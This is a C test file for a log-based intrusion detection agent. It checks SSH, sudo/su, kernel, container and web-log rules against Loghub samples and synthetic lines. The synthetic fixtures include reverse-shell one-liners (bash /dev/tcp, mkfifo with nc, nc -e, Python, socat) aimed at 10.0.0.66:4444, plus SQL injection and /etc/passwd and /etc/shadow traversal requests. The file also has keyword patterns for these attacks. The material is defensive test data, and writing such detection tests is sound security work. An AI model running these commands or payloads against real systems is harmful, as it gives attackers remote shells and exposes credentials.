/* test_rules_corpus.c - the built-in rule set (rules/builtin.json) through
 * the real parser and matcher.
 *
 * 1. The Loghub OpenSSH and Linux samples (../shared/corpus/logs, read in
 *    place, never copied) are replayed line by line, each line at the time
 *    its syslog stamp says, and every rule's event count is compared with a
 *    count taken from the sample's own *_structured.csv (templates and
 *    contents as Loghub's parser labelled them, not our output). The SSH
 *    brute-force rule must flag exactly the addresses that, by the CSV, have
 *    10 failures within 60 s: 183.62.140.253 among them, never
 *    119.137.62.142 (the one successful login).
 * 2. What the samples lack is written here from the programs' own message
 *    formats (each line says where its format comes from), with benign
 *    look-alikes that must stay quiet. */
#include "agent/matcher.h"
#include "common/rules.h"
#include "common/timeutil.h"
#include "tests/util/testutil.h"

#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define SEC CM_NS_PER_SEC
#define MAX_RULES 64
#define MAX_IPS 512

/* ---- the built-in rules ---- */

static struct ag_matcher *builtin_matcher(struct cm_policy *p)
{
    char err[256] = "";
    const char *path = tu_source_path("rules/builtin.json");
    size_t len = 0;
    char *text = tu_read_file(path, &len);
    cr_assert(text, "cannot read %s", path);
    cr_assert_eq(cm_rules_parse(text, len, p, err, sizeof err), 0, "%s", err);
    free(text);
    p->version = 1;
    struct ag_matcher *m = NULL;
    cr_assert_eq(ag_matcher_new(p, &m, err, sizeof err), 0, "%s", err);
    return m;
}

static int rule_index(const struct cm_policy *p, const char *id)
{
    for (size_t i = 0; i < p->n; i++) {
        if (strcmp(p->rules[i].id, id) == 0) return (int)i;
    }
    cr_assert_fail("no rule %s in builtin.json", id);
    return -1;
}

/* ---- syslog time: "Dec 10 06:55:46" (no year) ---- */

static int64_t syslog_ns(const char *mon, int day, const char *hms)
{
    static const char months[] = "JanFebMarAprMayJunJulAugSepOctNovDec";
    static const int before[] = {0, 31, 59, 90, 120, 151, 181, 212, 243, 273, 304, 334};
    const char *at = strstr(months, mon);
    cr_assert(at && strlen(mon) == 3, "month '%s'", mon);
    int h = 0, mi = 0, s = 0;
    for (int i = 0; i < 8; i++) {
        cr_assert(hms[i] && (i % 3 == 2 ? hms[i] == ':' : hms[i] >= '0' && hms[i] <= '9'), "%s",
                  hms);
    }
    h = (hms[0] - '0') * 10 + hms[1] - '0';
    mi = (hms[3] - '0') * 10 + hms[4] - '0';
    s = (hms[6] - '0') * 10 + hms[7] - '0';
    int64_t days = before[(at - months) / 3] + day - 1;
    return ((INT64_C(1767225600) + days * 86400) + h * 3600 + mi * 60 + s) * SEC; /* 2026 */
}

static int64_t line_ns(const char *line)
{
    char mon[4] = {0}, hms[9] = {0};
    memcpy(mon, line, 3);
    int day = (line[4] == ' ' ? 0 : line[4] - '0') * 10 + (line[5] - '0');
    memcpy(hms, line + 7, 8);
    return syslog_ns(mon, day, hms);
}

/* ---- replay ---- */

struct replay {
    size_t counts[MAX_RULES];
    char flagged[MAX_IPS][48]; /* ssh.brute_force's src_ip values */
    size_t n_flagged;
    size_t lines;
};

static void note_flagged(struct replay *r, const struct cm_log_event *e)
{
    for (size_t f = 0; f < e->n_fields; f++) {
        if (strcmp(e->fields[f].key, "src_ip") != 0) continue;
        for (size_t i = 0; i < r->n_flagged; i++) {
            if (strcmp(r->flagged[i], e->fields[f].value) == 0) return;
        }
        cr_assert_lt(r->n_flagged, MAX_IPS);
        snprintf(r->flagged[r->n_flagged++], sizeof r->flagged[0], "%s", e->fields[f].value);
    }
}

/* Feeds a CRLF file (no final newline) to m as source kind `kind`. */
static void replay_file(const struct cm_policy *p, struct ag_matcher *m, const char *path,
                        enum cm_log_source_kind kind, struct replay *r)
{
    size_t len = 0;
    char *text = tu_read_file(path, &len);
    cr_assert(text, "cannot read %s", path);
    struct cm_log_source src = {.kind = kind, .file_key = "1:1"};
    src.path = (char *)path;
    int brute = rule_index(p, "ssh.brute_force");
    size_t off = 0;
    while (off < len) {
        char *nl = memchr(text + off, '\n', len - off);
        size_t end = nl ? (size_t)(nl - text) : len, next = nl ? end + 1 : len;
        if (end > off && text[end - 1] == '\r') end--;
        text[end] = 0;
        struct ag_tail_line l = {.source = &src,
                                 .offset = off,
                                 .end_offset = next,
                                 .text = text + off,
                                 .len = end - off};
        struct cm_log_event ev[8];
        size_t n = ag_matcher_match(m, &l, line_ns(text + off), ev, 8);
        for (size_t i = 0; i < n; i++) {
            int ri = rule_index(p, ev[i].rule_id);
            r->counts[ri]++;
            if (ri == brute) note_flagged(r, &ev[i]);
            cm_log_event_free(&ev[i]);
        }
        r->lines++;
        off = next;
    }
    free(text);
}

/* ---- the structured CSV ---- */

#define CSV_COLS 12

/* Splits one CSV record (RFC 4180 quoting) in place; returns the columns. */
static size_t csv_split(char *s, char **col)
{
    size_t n = 0;
    while (n < CSV_COLS) {
        col[n++] = s;
        char *w = s;
        if (*s == '"') {
            col[n - 1] = w = ++s;
            while (*s && !(*s == '"' && s[1] != '"')) {
                if (*s == '"') s++;
                *w++ = *s++;
            }
            if (*s == '"') s++;
        } else {
            while (*s && *s != ',')
                w++, s++;
        }
        char c = *s;
        *w = 0;
        if (c != ',') break;
        s++;
    }
    return n;
}

struct csv_row {
    const char *mon, *hms, *component, *content, *tmpl;
    int day;
};

typedef void (*csv_row_cb)(const struct csv_row *row, void *arg);

/* Calls cb for each row; `linux_layout`: LineId,Month,Date,Time,Level,
 * Component,PID,Content,EventId,EventTemplate, else OpenSSH's LineId,Date,
 * Day,Time,Component,Pid,Content,EventId,EventTemplate. */
static size_t csv_each(const char *path, bool linux_layout, csv_row_cb cb, void *arg)
{
    size_t len = 0, rows = 0;
    char *text = tu_read_file(path, &len);
    cr_assert(text, "cannot read %s", path);
    char *save = text, *line;
    bool header = true;
    while ((line = save) && *line) {
        char *nl = strchr(line, '\n');
        save = nl ? nl + 1 : line + strlen(line);
        if (nl) *nl = 0;
        if (nl && nl > line && nl[-1] == '\r') nl[-1] = 0;
        if (header) {
            header = false;
            continue;
        }
        char *c[CSV_COLS];
        size_t n = csv_split(line, c);
        cr_assert_eq(n, linux_layout ? 10 : 9, "%s: a row of %zu columns", path, n);
        struct csv_row r = {.mon = c[1], .day = (int)strtol(c[2], NULL, 10), .hms = c[3]};
        r.component = c[linux_layout ? 5 : 4];
        r.content = c[linux_layout ? 7 : 6];
        r.tmpl = c[linux_layout ? 9 : 8];
        cb(&r, arg);
        rows++;
    }
    free(text);
    return rows;
}

/* What Loghub's labels say each rule should count on a row. */
static bool has(const char *s, const char *needle)
{
    return strstr(s, needle) != NULL;
}

static bool expect_rule(const char *id, const struct csv_row *r, bool auth_kind)
{
    const char *t = r->tmpl, *c = r->content;
    bool pam_su = has(r->component, "su(pam_unix)") || has(r->component, "sudo(pam_unix)");
    if (strcmp(id, "ssh.failed_password") == 0)
        return strcmp(t, "Failed password for <*> from <*> port <*> ssh2") == 0 ||
               strcmp(t, "Failed password for invalid user <*> from <*> port <*> ssh2") == 0 ||
               strcmp(
                   t,
                   "message repeated <*> times: [ Failed password for root from <*> port <*>]") ==
                   0;
    if (strcmp(id, "ssh.invalid_user") == 0) return strcmp(t, "Invalid user <*> from <*>") == 0;
    if (strcmp(id, "ssh.accepted_login") == 0) return strncmp(t, "Accepted ", 9) == 0;
    if (strcmp(id, "ssh.accepted_root") == 0)
        return strncmp(t, "Accepted ", 9) == 0 && has(c, "for root ");
    if (strcmp(id, "auth.root_console_login") == 0) return strncmp(t, "ROOT LOGIN ON", 13) == 0;
    if (strcmp(id, "auth.sudo_su_failure") == 0)
        return (pam_su && strncmp(t, "authentication failure", 22) == 0) ||
               has(c, "incorrect password attempt") || has(c, "FAILED SU") || has(c, "FAILED su");
    if (strcmp(id, "auth.sudo_root") == 0) return has(c, "USER=root") && has(c, "COMMAND=");
    if (strcmp(id, "account.created") == 0) return has(c, "new user: ") || has(c, "new group: ");
    if (strcmp(id, "process.crypto_miner") == 0)
        return has(c, "stratum+") || has(c, "xmrig") || has(c, "minerd") || has(c, "cpuminer") ||
               has(c, "nicehash");
    if (strcmp(id, "process.reverse_shell") == 0)
        return has(c, "/dev/tcp/") || has(c, "mkfifo") || has(c, "socat") || has(c, "nc -e");
    if (strcmp(id, "kernel.oom_kill") == 0)
        return !auth_kind && (has(c, "Out of memory") || has(c, "oom-kill:"));
    if (strcmp(id, "kernel.segfault") == 0) return !auth_kind && has(c, "segfault at");
    /* container-only rules never see a host log */
    return false;
}

struct expect_ctx {
    const struct cm_policy *p;
    bool auth_kind;
    size_t want[MAX_RULES];
    /* failures per address for the brute-force check */
    char ip[MAX_IPS][48];
    int64_t *times[MAX_IPS];
    size_t n_times[MAX_IPS];
    size_t n_ip;
};

/* The address after " from " in a failure row, and how many failures the
 * row stands for ("message repeated N times"). */
static void note_failure(struct expect_ctx *x, const struct csv_row *r)
{
    const char *t = r->tmpl;
    if (strncmp(t, "Failed ", 7) != 0 && strncmp(t, "message repeated", 16) != 0) return;
    const char *f = strstr(r->content, " from ");
    cr_assert(f, "%s", r->content);
    char ip[48];
    size_t k = 0;
    for (f += 6; *f && *f != ' ' && k + 1 < sizeof ip; f++)
        ip[k++] = *f;
    ip[k] = 0;
    int weight =
        strncmp(t, "message repeated", 16) == 0 ? (int)strtol(r->content + 17, NULL, 10) : 1;
    cr_assert_gt(weight, 0);
    size_t i = 0;
    while (i < x->n_ip && strcmp(x->ip[i], ip) != 0)
        i++;
    if (i == x->n_ip) {
        cr_assert_lt(x->n_ip, MAX_IPS);
        snprintf(x->ip[x->n_ip++], sizeof x->ip[0], "%s", ip);
    }
    for (int w = 0; w < weight; w++) {
        x->times[i] = realloc(x->times[i], (x->n_times[i] + 1) * sizeof *x->times[i]);
        x->times[i][x->n_times[i]++] = syslog_ns(r->mon, r->day, r->hms);
    }
}

static void expect_row(const struct csv_row *r, void *arg)
{
    struct expect_ctx *x = arg;
    for (size_t i = 0; i < x->p->n; i++)
        x->want[i] += expect_rule(x->p->rules[i].id, r, x->auth_kind);
    note_failure(x, r);
}

/* 10 failures within any 60 s (the rule's threshold, read from the rule). */
static bool csv_says_brute(const struct expect_ctx *x, size_t i, const struct cm_rule *rule)
{
    int64_t win = (int64_t)rule->threshold.window_seconds * SEC;
    size_t need = rule->threshold.count;
    for (size_t a = 0; a + need <= x->n_times[i]; a++) {
        if (x->times[i][a + need - 1] - x->times[i][a] < win) return true;
    }
    return false;
}

static bool flagged(const struct replay *r, const char *ip)
{
    for (size_t i = 0; i < r->n_flagged; i++) {
        if (strcmp(r->flagged[i], ip) == 0) return true;
    }
    return false;
}

static void corpus_case(const char *log_rel, const char *csv_rel, bool linux_layout,
                        enum cm_log_source_kind kind, size_t min_expected)
{
    const char *log = tu_corpus_path(log_rel);
    if (!log) cr_skip_test("corpus absent (BOXWATCH_CORPUS_DIR / ../shared/corpus): %s", log_rel);
    char log_path[4096];
    snprintf(log_path, sizeof log_path, "%s", log);
    const char *csv = tu_corpus_path(csv_rel);
    cr_assert(csv, "%s without its CSV", log_rel);
    struct cm_policy p = {0};
    struct ag_matcher *m = builtin_matcher(&p);
    cr_assert_leq(p.n, MAX_RULES);
    static struct expect_ctx x;
    memset(&x, 0, sizeof x);
    x.p = &p;
    x.auth_kind = kind == CM_LOG_SRC_AUTH;
    size_t rows = csv_each(csv, linux_layout, expect_row, &x);
    static struct replay r;
    memset(&r, 0, sizeof r);
    replay_file(&p, m, log_path, kind, &r);
    cr_assert_eq(r.lines, rows, "log lines vs CSV rows");
    size_t total = 0;
    int brute = rule_index(&p, "ssh.brute_force");
    for (size_t i = 0; i < p.n; i++) {
        total += x.want[i];
        if ((int)i == brute) continue;
        cr_assert_eq(r.counts[i], x.want[i], "%s: rule %s: %zu events, the CSV says %zu", log_rel,
                     p.rules[i].id, r.counts[i], x.want[i]);
    }
    cr_assert_geq(total, min_expected, "the CSV expectations are not empty");
    /* brute force: exactly the addresses the CSV says */
    size_t n_brute = 0;
    for (size_t i = 0; i < x.n_ip; i++) {
        bool want = csv_says_brute(&x, i, &p.rules[brute]);
        n_brute += want;
        cr_assert_eq(flagged(&r, x.ip[i]), want, "%s: %s flagged=%d, the CSV says %d", log_rel,
                     x.ip[i], flagged(&r, x.ip[i]), want);
        free(x.times[i]);
    }
    cr_assert_eq(r.n_flagged, n_brute, "flagged an address without failures");
    ag_matcher_free(m);
    cm_policy_free(&p);
}

Test(rules_corpus, openssh_sample)
{
    corpus_case("logs/OpenSSH/OpenSSH_2k.log", "logs/OpenSSH/OpenSSH_2k.log_structured.csv", false,
                CM_LOG_SRC_AUTH, 600);
}

Test(rules_corpus, openssh_brute_force_named_addresses)
{
    const char *log = tu_corpus_path("logs/OpenSSH/OpenSSH_2k.log");
    if (!log) cr_skip_test("corpus absent: logs/OpenSSH/OpenSSH_2k.log");
    struct cm_policy p = {0};
    struct ag_matcher *m = builtin_matcher(&p);
    static struct replay r;
    memset(&r, 0, sizeof r);
    replay_file(&p, m, log, CM_LOG_SRC_AUTH, &r);
    cr_assert(flagged(&r, "183.62.140.253"), "the top attacker (286 failures in ~10 min)");
    cr_assert_not(flagged(&r, "119.137.62.142"), "the one successful login");
    size_t brute = (size_t)rule_index(&p, "ssh.brute_force");
    /* one event per quiet window, not one per failure */
    cr_assert_lt(r.counts[brute], 100, "%zu brute-force events", r.counts[brute]);
    ag_matcher_free(m);
    cm_policy_free(&p);
}

Test(rules_corpus, linux_sample)
{
    corpus_case("logs/Linux/Linux_2k.log", "logs/Linux/Linux_2k.log_structured.csv", true,
                CM_LOG_SRC_SYSLOG, 1);
}

/* ---- what the samples lack ---- */

struct synth {
    enum cm_log_source_kind kind;
    const char *line;
    const char *rules; /* space-separated rule ids expected, "" = none */
    const char *field; /* "key=value" checked on the first event, or NULL */
};

#define C CM_LOG_SRC_CONTAINER
#define A CM_LOG_SRC_AUTH
#define K CM_LOG_SRC_KERNEL
#define S CM_LOG_SRC_SYSLOG

static const struct synth synth_lines[] = {
    /* pam_unix (Linux-PAM modules/pam_unix/support.c, _unix_verify_password):
     * "authentication failure; logname=%s uid=%d euid=%d tty=%s ruser=%s rhost=%s  user=%s" */
    {A,
     "Nov 23 10:00:01 h sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 "
     "euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice",
     "auth.sudo_su_failure", "service=sudo"},
    {A,
     "Nov 23 10:00:02 h su: pam_unix(su-l:auth): authentication failure; logname=bob uid=1001 "
     "euid=0 tty=pts/1 ruser=bob rhost=  user=root",
     "auth.sudo_su_failure", "user=root"},
    /* the same in the RHEL 4 program(pam_module)[pid] form of the Linux sample */
    {S,
     "Jun 14 15:16:01 combo su(pam_unix)[19939]: authentication failure; logname= uid=500 euid=0 "
     "tty= ruser=bob rhost=  user=root",
     "auth.sudo_su_failure", "service=su"},
    /* sudo (plugins/sudoers/logging.c): "%u incorrect password attempt%s", "user NOT in sudoers" */
    {A,
     "Nov 23 10:00:03 h sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; "
     "PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
     "auth.sudo_su_failure", "attempts=3"},
    {A,
     "Nov 23 10:00:04 h sudo:      eve : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; "
     "COMMAND=/bin/sh",
     "auth.sudo_su_failure", "reason=user NOT in sudoers"},
    /* util-linux su-common.c: "FAILED SU (to %s) %s on %s"; shadow su.c: "FAILED su for %s by %s"
     */
    {A, "Nov 23 10:00:05 h su[4242]: FAILED SU (to root) bob on pts/1", "auth.sudo_su_failure",
     "target_user=root"},
    {A, "Nov 23 10:00:06 h su[4243]: FAILED su for root by bob", "auth.sudo_su_failure",
     "user=bob"},
    /* sudo's accepted command: "%s : TTY=%s ; PWD=%s ; USER=%s ; COMMAND=%s" */
    {A,
     "Nov 23 10:00:07 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
     "COMMAND=/usr/bin/apt update",
     "auth.sudo_root", "command=/usr/bin/apt update"},
    {A,
     "Nov 23 10:00:08 h sudo[77]:    alice : TTY=pts/0 ; PWD=/srv ; USER=root ; TSID=000001 ; "
     "COMMAND=/bin/ls",
     "auth.sudo_root", "user=alice"},
    {A, "Nov 23 10:00:09 h sudo:    alice : TTY=pts/0 ; PWD=/srv ; USER=postgres ; COMMAND=/bin/ls",
     "", NULL},
    {A,
     "Nov 23 10:00:10 h sudo: pam_unix(sudo:session): session opened for user root(uid=0) by "
     "alice(uid=1000)",
     "", NULL},
    /* util-linux login-utils/login.c: "ROOT LOGIN ON %s FROM %s" */
    {A, "Nov 23 10:00:11 h login[812]: ROOT LOGIN ON pts/3 FROM 192.0.2.8",
     "auth.root_console_login", "src_host=192.0.2.8"},
    /* shadow-utils useradd.c / groupadd.c */
    {A,
     "Nov 23 10:01:00 h useradd[5001]: new user: name=backdoor, UID=1002, GID=1002, "
     "home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0",
     "account.created", "name=backdoor"},
    {A, "Nov 23 10:01:00 h groupadd[5002]: new group: name=ops, GID=1003", "account.created",
     "gid=1003"},
    /* OpenSSH auth2.c/auth.c: "Accepted %s for %s from %.200s port %d ssh2" */
    {A,
     "Nov 23 10:02:00 h sshd[900]: Accepted publickey for root from 203.0.113.9 port 50022 ssh2: "
     "ED25519 SHA256:abc",
     "ssh.accepted_root ssh.accepted_login", "src_ip=203.0.113.9"},
    {A, "Nov 23 10:02:01 h sshd[901]: Accepted password for alice from 2001:db8::7 port 50023 ssh2",
     "ssh.accepted_login", "src_ip=2001:db8::7"},
    {A, "Nov 23 10:02:02 h sshd[902]: Invalid user admin from 198.51.100.4 port 41000",
     "ssh.invalid_user", "user=admin"},
    /* package managers' own output: apk ("(%d/%d) Installing %s"), apt ("%lu newly installed"),
     * pip ("Successfully installed ..."), dnf ("Install  %d Package"), and shell traces */
    {C, "(1/4) Installing ncurses-terminfo-base (6.4_p20230506-r0)", "container.package_install",
     "count=4"},
    {C, "0 upgraded, 3 newly installed, 0 to remove and 0 not upgraded.",
     "container.package_install", "count=3"},
    {C, "Successfully installed certifi-2023.11.17 requests-2.31.0", "container.package_install",
     "package=certifi-2023.11.17"},
    {C, "Install  2 Packages", "container.package_install", "count=2"},
    {C, "+ apk add --no-cache nmap", "container.package_install", "package=nmap"},
    {C, "+ apt-get -y install netcat-traditional", "container.package_install", "manager=apt-get"},
    {C, "/bin/sh -c yum install -y socat", "container.package_install", "package=socat"},
    {C, "$ pip3 install --user pycryptodome", "container.package_install", "package=pycryptodome"},
    {C, "0 upgraded, 0 newly installed, 0 to remove and 4 not upgraded.", "", NULL},
    {C, "Reading package lists... Done", "", NULL},
    {A, "(1/4) Installing ncurses", "", NULL}, /* container-only rule */
    /* XMRig's console output (src/base/net/stratum/Pool.cpp, "use pool %s") */
    {C,
     "[2026-11-23 10:03:00.512]  net      use pool stratum+tcp://pool.supportxmr.com:3333  "
     "104.243.33.118",
     "process.crypto_miner", "pool=pool.supportxmr.com:3333"},
    {C, " * ABOUT        XMRig/6.21.0 gcc/11.2.1", "process.crypto_miner", "miner=XMRig"},
    {S, "Nov 23 10:03:01 h kernel: [ 100.0] minerd[3131]: general protection",
     "process.crypto_miner", "miner=minerd"},
    {C, "connecting to eu.nicehash.com:3333 ...", "process.crypto_miner", NULL},
    /* reverse shells as a process would log or echo them */
    {C, "+ bash -i >& /dev/tcp/10.0.0.66/4444 0>&1", "process.reverse_shell", "port=4444"},
    {A,
     "Nov 23 10:04:00 h sudo:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/nc -e "
     "/bin/sh 10.0.0.66 4444",
     "auth.sudo_root process.reverse_shell", NULL},
    {C, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.66 4444 >/tmp/f",
     "process.reverse_shell", NULL},
    {C,
     "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
     "s.connect((\"10.0.0.66\",4444));os.dup2(s.fileno(),0);import pty; pty.spawn(\"/bin/sh\")'",
     "process.reverse_shell", NULL},
    {C, "socat TCP:10.0.0.66:4444 EXEC:/bin/bash,pty,stderr,setsid", "process.reverse_shell", NULL},
    {C, "nc -zv db 5432", "", NULL},
    /* web access logs in the combined format (nginx log_format combined) */
    {C,
     "172.17.0.1 - - [23/Nov/2026:10:05:00 +0000] \"GET /item?id=1%20UNION%20SELECT%20"
     "username,password%20FROM%20users HTTP/1.1\" 200 12 \"-\" \"sqlmap/1.7\"",
     "web.sql_injection", "src_ip=172.17.0.1"},
    {C,
     "172.17.0.1 - - [23/Nov/2026:10:05:01 +0000] \"GET /login?user=admin%27%20OR%201=1-- "
     "HTTP/1.1\" 200 12 \"-\" \"curl/8.0\"",
     "web.sql_injection", "method=GET"},
    {C,
     "10.1.1.1 - - [23/Nov/2026:10:05:02 +0000] \"POST /search?q=1'+or+sleep(5)# HTTP/1.1\" 200 1 "
     "\"-\" \"x\"",
     "web.sql_injection", NULL},
    {C,
     "10.1.1.1 - - [23/Nov/2026:10:05:03 +0000] \"GET /static/../../../../etc/passwd HTTP/1.1\" "
     "400 0 \"-\" \"x\"",
     "web.path_traversal web.sensitive_file", "uri=/static/../../../../etc/passwd"},
    {C,
     "10.1.1.1 - - [23/Nov/2026:10:05:04 +0000] \"GET /cgi-bin/%2e%2e%2f%2e%2e%2fbin/sh "
     "HTTP/1.1\" 404 0 \"-\" \"x\"",
     "web.path_traversal", NULL},
    {C, "GET /download?file=%2Fetc%2Fshadow HTTP/1.1", "web.sensitive_file", NULL},
    {C,
     "10.1.1.1 - - [23/Nov/2026:10:05:05 +0000] \"GET /products?sort=price&page=2 HTTP/1.1\" 200 "
     "5120 \"-\" \"Mozilla/5.0\"",
     "", NULL},
    {C, "db: SELECT name FROM a UNION SELECT name FROM b", "", NULL}, /* not a request */
    /* kernel mm/oom_kill.c (dump_oom_summary, __oom_kill_process) */
    {K,
     "[ 812.551] oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=abc,mems_allowed=0,"
     "oom_memcg=/docker/abc,task_memcg=/docker/abc,task=stress,pid=4242,uid=0",
     "kernel.oom_kill", "memcg=/docker/abc"},
    {K,
     "[ 812.552] Memory cgroup out of memory: Killed process 4242 (stress) total-vm:1052kB, "
     "anon-rss:262144kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:560kB oom_score_adj:0",
     "", NULL}, /* the same kill: one event per pid within 10 s */
    {S, "Nov 23 10:06:00 h kernel: Out of memory: Killed process 977 (java) total-vm:4096kB",
     "kernel.oom_kill", "process=java"},
    /* arch/x86/mm/fault.c show_signal_msg: "%s%s[%d]: segfault at %lx ip %px sp %px error %lx" */
    {K,
     "[ 900.1] nginx[3100]: segfault at 0 ip 000055d0c1a2b3c4 sp 00007ffd1234abcd error 4 in "
     "nginx[55d0c1a00000+f4000] likely on CPU 1 (core 1, socket 0)",
     "kernel.segfault", "object=nginx"},
    {K, "[ 901.0] usb 1-1: new high-speed USB device number 2", "", NULL},
};

static bool want_rule(const char *list, const char *id)
{
    size_t n = strlen(id);
    for (const char *p = list; (p = strstr(p, id)); p += n) {
        if ((p == list || p[-1] == ' ') && (p[n] == ' ' || p[n] == 0)) return true;
    }
    return false;
}

static size_t count_words(const char *s)
{
    size_t n = 0;
    for (bool in = false; *s; s++) {
        if (*s != ' ' && !in) n++;
        in = *s != ' ';
    }
    return n;
}

static void check_field(const struct cm_log_event *e, const char *kv, const char *line)
{
    const char *eq = strchr(kv, '=');
    for (size_t i = 0; i < e->n_fields; i++) {
        if (strlen(e->fields[i].key) == (size_t)(eq - kv) &&
            strncmp(e->fields[i].key, kv, (size_t)(eq - kv)) == 0) {
            cr_assert_str_eq(e->fields[i].value, eq + 1, "%s: %s", e->rule_id, line);
            return;
        }
    }
    cr_assert_fail("%s: no field %s on: %s", e->rule_id, kv, line);
}

Test(rules_corpus, synthetic_lines)
{
    struct cm_policy p = {0};
    struct ag_matcher *m = builtin_matcher(&p);
    struct cm_log_source src[CM_LOG_SRC__COUNT];
    for (int k = 0; k < CM_LOG_SRC__COUNT; k++)
        src[k] = (struct cm_log_source){.kind = (enum cm_log_source_kind)k};
    bool seen[MAX_RULES] = {false};
    int64_t now = 1000 * SEC;
    for (size_t i = 0; i < sizeof synth_lines / sizeof *synth_lines; i++) {
        const struct synth *s = &synth_lines[i];
        struct ag_tail_line l = {.source = &src[s->kind], .text = s->line, .len = strlen(s->line)};
        struct cm_log_event ev[8];
        size_t n = ag_matcher_match(m, &l, now += SEC, ev, 8);
        cr_assert_eq(n, count_words(s->rules), "line %zu: %zu events, want '%s': %s", i, n,
                     s->rules, s->line);
        for (size_t e = 0; e < n; e++) {
            cr_assert(want_rule(s->rules, ev[e].rule_id), "line %zu: unexpected %s: %s", i,
                      ev[e].rule_id, s->line);
            seen[rule_index(&p, ev[e].rule_id)] = true;
        }
        if (s->field) check_field(&ev[0], s->field, s->line);
        for (size_t e = 0; e < n; e++)
            cm_log_event_free(&ev[e]);
    }
    /* every built-in rule but the brute force (the corpus covers it) fired */
    for (size_t i = 0; i < p.n; i++) {
        if (strcmp(p.rules[i].id, "ssh.brute_force") == 0 ||
            strcmp(p.rules[i].id, "ssh.failed_password") == 0)
            continue;
        cr_assert(seen[i], "no synthetic line for rule %s", p.rules[i].id);
    }
    ag_matcher_free(m);
    cm_policy_free(&p);
}
